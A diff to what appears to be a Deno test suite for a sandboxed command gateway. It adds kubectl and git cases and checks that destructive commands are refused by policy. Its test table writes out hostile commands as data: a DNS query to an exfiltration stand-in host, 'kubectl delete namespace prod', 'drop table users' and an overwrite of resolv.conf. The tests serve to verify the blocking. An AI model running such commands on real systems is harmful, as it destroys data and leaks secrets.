@@ -29,6 +29,10 @@ t dig-unlisted sh -c '/usr/bin/dig +tries=1 +time=5 exfil.evil.test | grep -o "s
 t dig-outside /usr/bin/dig @8.8.8.8 +tries=1 +time=2 example.com
 t psql-read /usr/bin/psql -X -A -t -c 'select count(*) from users'
 t psql-drop /usr/bin/psql -X -A -t -c 'drop table users'
+t kubectl-get /usr/bin/kubectl get pods -A -o name --request-timeout=20s
+t kubectl-delete /usr/bin/kubectl delete namespace prod --request-timeout=20s
+t git-clone /usr/bin/git clone -q https://api.example.test/repo.git /tmp/clone
+t git-cat cat /tmp/clone/README
 t route-add /usr/sbin/ip route add 1.2.3.0/24 dev eth0
 t resolv-edit sh -c 'echo nameserver 8.8.8.8 > /etc/resolv.conf'
 t userns-route /usr/bin/unshare -r /usr/sbin/ip route add 1.2.3.0/24 dev eth0
@@ -64,7 +68,7 @@ Deno.test({
       const show = `${run.stdout}\n${run.stderr}`;
       const rc = (name: string) => got.get(name)?.rc;
       const out = (name: string) => got.get(name)?.out ?? "";
-      ok(got.size >= 17, show);
+      ok(got.size >= 21, show);
       equal(out("user"), "65534", "as root, the command runs as nobody");
       equal(out("proxy-vars"), "none", "no proxy settings at all");
       // Allowed, through interception, the placeholder swapped on the way out.
@@ -76,7 +80,12 @@ Deno.test({
       equal(fx.seen.find((r) => r.path === "/v1/messages")?.authorization, get?.authorization);
       equal(rc("psql-read"), 0, show);
       equal(out("psql-read"), "3");
+      equal(rc("kubectl-get"), 0, show);
+      match(out("kubectl-get"), /pod\//);
+      equal(out("git-cat"), "cloned through the gateway", show);
       // Decided by rules.
+      ok(rc("kubectl-delete") !== 0);
+      match(out("kubectl-delete"), /Deleting namespaces is not allowed/);
       match(out("delete"), /deletes are not allowed.* 403$/);
       equal(rc("psql-drop"), 1);
       match(out("psql-drop"), /Schema changes land via migration PR/);
